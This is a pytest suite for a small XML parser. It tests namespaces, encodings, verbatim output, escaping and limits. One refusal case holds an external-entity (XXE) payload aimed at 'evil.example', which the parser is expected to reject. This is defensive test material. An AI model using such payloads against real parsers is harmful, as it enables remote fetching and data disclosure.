"""Small XML documents: the tree, what is kept verbatim, and what is refused."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from imxrouter.formats.xmltree import (
    BadXml,
    Element,
    Limits,
    XmlFault,
    escape_attribute,
    escape_text,
    parse,
)
from tests.formats.presence_strategies import CALM, XML_TEXT


def shape(element: Element) -> object:
    """A tree as plain values."""
    return (
        element.namespace,
        element.name,
        element.attributes,
        element.text,
        [shape(child) for child in element.children],
    )


def fault_of(raw: bytes, limits: Limits | None = None) -> XmlFault:
    """The name under which it is refused."""
    with pytest.raises(BadXml) as caught:
        parse(raw, limits or Limits())
    return caught.value.fault


def test_a_tree() -> None:
    """Names with their namespaces, attributes, text around children."""
    root = parse(b"<p:a xmlns:p='urn:p' xmlns='urn:d' k='1' p:k='2'>x<b>y</b>z<p:c/></p:a>")
    assert shape(root) == (
        "urn:p",
        "a",
        {"k": "1", "urn:p k": "2"},
        "xz",
        [("urn:d", "b", {}, "y", []), ("urn:p", "c", {}, "", [])],
    )


def test_utf8_with_a_mark_and_declared_latin1() -> None:
    """Both are taken; the verbatim form is Unicode in either case."""
    assert parse(b"\xef\xbb\xbf<a>\xc3\xa9</a>").text == "é"
    root = parse(b"<?xml version='1.0' encoding='ISO-8859-1'?><a><b>\xe9</b></a>")
    assert root.children[0].verbatim() == "<b>é</b>".replace("<b>", '<b xmlns="">')


@pytest.mark.parametrize(
    ("raw", "fault"),
    [
        (b"\xff\xfe<\x00a\x00/\x00>\x00", XmlFault.ENCODING),
        (b"\xfe\xff\x00<\x00a", XmlFault.ENCODING),
        (b"<\x00a\x00/\x00>\x00", XmlFault.ENCODING),
        (b"\x00\x00\x00<", XmlFault.ENCODING),
        (b"<?xml version='1.0' encoding='UTF-16'?><a/>", XmlFault.ENCODING),
        (b"<a>\xe9</a>", XmlFault.MALFORMED),
        (b"<a>\xed\xa0\x80</a>", XmlFault.MALFORMED),
        (b"<a>\xc0\xbc</a>", XmlFault.MALFORMED),
        (b"<a b='1' b='2'/>", XmlFault.MALFORMED),
        (b"<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://evil.example/'> %x;]><a/>", XmlFault.DOCUMENT_TYPE),
        (b"<a>&x;</a>", XmlFault.ENTITY),
        (b"<a xmlns:b='urn:x>y'/>", XmlFault.NAMESPACES),
        (b"<a xmlns='urn:\xc3\xa9'/>", XmlFault.NAMESPACES),
        (b"<a xmlns='/x'/>", XmlFault.NAMESPACES),
        (b"<a/><!-- -->", XmlFault.COMMENT),
        (b"<a/><?x?>", XmlFault.INSTRUCTION),
    ],
)
def test_refusals(raw: bytes, fault: XmlFault) -> None:
    """By name."""
    assert fault_of(raw) is fault


@pytest.mark.parametrize("name", ["urn:x", "http://a.example/x#y", "DAV:", "jabber:client", "word"])
def test_namespaces_of_the_world(name: str) -> None:
    """URIs, and what libxml2 takes besides."""
    raw = f"<a xmlns='{name}'/>".encode()
    assert parse(raw).namespace == name
    assert etree.fromstring(raw).tag == f"{{{name}}}a"


def test_limits_are_exact() -> None:
    """At each limit taken, one above refused."""
    limits = Limits(size_bytes=100, depth=3, elements=4, attributes=2, namespaces=2)
    for good, bad, fault in (
        (b"<a>" + b"x" * 93 + b"</a>", b"<a>" + b"x" * 94 + b"</a>", XmlFault.SIZE),
        (b"<a><a><a/></a></a>", b"<a><a><a><a/></a></a></a>", XmlFault.DEPTH),
        (b"<a><b/><b/><b/></a>", b"<a><b/><b/><b/><b/></a>", XmlFault.ELEMENTS),
        (b"<a b='' c=''/>", b"<a b='' c='' d=''/>", XmlFault.ATTRIBUTES),
        (
            b"<a xmlns:b='b'><a xmlns:c='c'/></a>",
            b"<a xmlns:b='b'><a xmlns:c='c' xmlns='d'/></a>",
            XmlFault.NAMESPACES,
        ),
    ):
        parse(good, limits)
        assert fault_of(bad, limits) is fault
    parse(b"<a xmlns:b='b'><a xmlns:c='c'/><a xmlns:d='d'/></a>", limits)  # out of scope again


@pytest.mark.parametrize(
    "inside",
    [
        "<b/>",
        "<b />",
        "<b></b>",
        "<b>/></b>",
        "<b><c/></b>",
        "<b a='/'></b>",
        "<b a='>'/>",
        "<b a='/>'>t</b>",
        "<b><![CDATA[/>]]></b>",
        "<b><![CDATA[]]></b>",
        "<b>&gt;</b\n>",
        "<b>é&#x10FFFF;</b>",
    ],
)
def test_verbatim_is_the_element_and_nothing_else(inside: str) -> None:
    """Wherever its tags end."""
    for around in ("<a>{}</a>", "<a><x/>{}<x/></a>", "<a>/>{}/></a>"):
        (found,) = [one for one in parse(around.format(inside).encode()).children if one.name == "b"]
        assert found.verbatim().replace(' xmlns=""', "", 1) == inside


@pytest.mark.parametrize(
    ("inside", "kept"),
    [
        ("<p:b/>", '<p:b xmlns:p="urn:p"/>'),
        ("<p:b xmlns:p='urn:q'/>", "<p:b xmlns:p='urn:q'/>"),
        ("<p:b><b/></p:b>", '<p:b xmlns:p="urn:p" xmlns="urn:d"><b/></p:b>'),
        ("<p:b><b xmlns='x'><c/></b></p:b>", "<p:b xmlns:p=\"urn:p\"><b xmlns='x'><c/></b></p:b>"),
        ("<p:b t='q:c'/>", '<p:b xmlns:p="urn:p" xmlns:q="urn:q&amp;r" t=\'q:c\'/>'),
        ("<p:b>xq:c</p:b>", '<p:b xmlns:p="urn:p">xq:c</p:b>'),
        ("<b\n a=''/>", "<b xmlns=\"urn:d\"\n a=''/>"),
        ("<p:b xml:lang='de'/>", "<p:b xmlns:p=\"urn:p\" xml:lang='de'/>"),
    ],
)
def test_verbatim_takes_what_it_needs_from_outside(inside: str, kept: str) -> None:
    """Declarations of its prefixes, of those in values, the default one; none that it has itself."""
    outer = f"<a xmlns='urn:d' xmlns:p='urn:p' xmlns:q='urn:q&amp;r' xmlns:r='urn:r'>{inside}</a>"
    (found,) = parse(outer.encode()).children
    assert found.verbatim() == kept
    alone = parse(kept.encode())
    assert shape(alone) == shape(found)
    assert alone.verbatim() == kept


def test_verbatim_takes_the_language_along() -> None:
    """Unless it says its own."""
    first, second = parse(b"<a xml:lang='de'><b xmlns=''/><c xmlns='' xml:lang='fr'/></a>").children
    assert first.verbatim() == "<b xml:lang=\"de\" xmlns=''/>"
    assert second.verbatim() == "<c xmlns='' xml:lang='fr'/>"


@given(XML_TEXT, XML_TEXT)
@settings(CALM)
def test_escaping_and_reading_undo_each_other(text: str, value: str) -> None:
    """For us and for libxml2."""
    raw = f'<a k="{escape_attribute(value)}">{escape_text(text)}</a>'.encode()
    ours, theirs = parse(raw), etree.fromstring(raw)
    assert (ours.text, ours.attributes["k"]) == (text, value)
    assert (theirs.text or "", theirs.get("k")) == (text, value)


@given(st.binary(max_size=100))
@settings(CALM)
def test_any_bytes_give_a_tree_or_bad_xml(raw: bytes) -> None:
    """No other exception."""
    for document in (raw, b"<a " + raw + b"/>", b"<a>" + raw + b"</a>", b"<?xml " + raw + b"?><a/>"):
        try:
            parse(document).verbatim()
        except BadXml:
            continue
